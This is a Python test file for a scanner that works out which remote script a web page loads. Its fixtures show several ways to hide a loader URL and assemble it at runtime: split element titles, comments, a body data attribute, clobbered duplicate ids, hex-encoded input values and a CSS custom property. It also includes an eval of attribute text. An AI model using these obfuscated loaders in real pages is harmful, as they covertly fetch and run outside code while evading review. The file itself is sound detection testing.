"""What a script comes to on its page: words that elements, comments and style rules hold for it."""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from scanner.scripts import Surroundings, reckoned

LOAD = 'var s=document.createElement("script");s.src={};document.head.append(s)'
PAGE = """<style>:root{{--k:"//a.k8.test/x.js"}}.r{{order:7}}</style><body data-u="k8.test"><!--k8.test-->
<ul id="l"><li title="//a.">1</li><li title="k8">2</li><li title=".test/">3</li></ul>
<a id="c"></a><a id="c" name="u" href="//a.k8.test/"></a>
<input id="h" value="2f2f612e6b382e746573742f"><script>{}</script>"""
WAYS = {
    "attributes": '[...document.querySelectorAll("#l li")].map(n=>n.title).join("")',
    "children": 'Array.from(l.children,function(n){return n.getAttribute("title")}).join("")',
    "a comment": '(function(){var w=document.createTreeWalker(document,128);return "//a."+w.nextNode().data+"/"})()',
    "an attribute of the body": '"//a."+document.body.dataset.u+"/"',
    "a name twice given": '(window.c||{}).u||"/js/a.js"',
    "a field in hexadecimals": 'h.value.replace(/../g,function(x){return String.fromCharCode("0x"+x)})',
    "a property of a style": 'getComputedStyle(document.documentElement).getPropertyValue("--k")',
}


def come(expression: str, *, alone: bool = False):
    code = LOAD.format(expression)
    html = PAGE.format(code)
    return reckoned(code, None if alone else Surroundings(html, LexborHTMLParser(html)))


@pytest.mark.parametrize("expression", WAYS.values(), ids=WAYS.keys())
def test_what_the_page_holds_is_put_together(expression):
    assert [(act.kind, act.host) for act in come(expression).acts] == [("load", "a.k8.test")]


@pytest.mark.parametrize("expression", WAYS.values(), ids=WAYS.keys())
def test_without_the_page_it_is_not_known(expression):
    outcome = come(expression, alone=True)
    assert not outcome.acts
    assert outcome.wanting or outcome.asked


def test_where_no_address_belongs_is_told():
    (act,) = come(WAYS["attributes"]).acts
    assert "sent-odd" in act.near


def test_text_that_is_run_is_taken_from_the_page():
    html = '<p id="p" title="alert(1)"></p>'
    outcome = reckoned(
        'eval(document.getElementById("p").title)//fromCharCode........', Surroundings(html, LexborHTMLParser(html))
    )
    assert outcome.carried == ("alert(1)",)


def test_no_selector_finds_nothing():
    html = "<p>x</p>"
    assert not reckoned(
        LOAD.format('"//"+document.querySelector("p[").title'), Surroundings(html, LexborHTMLParser(html))
    ).acts
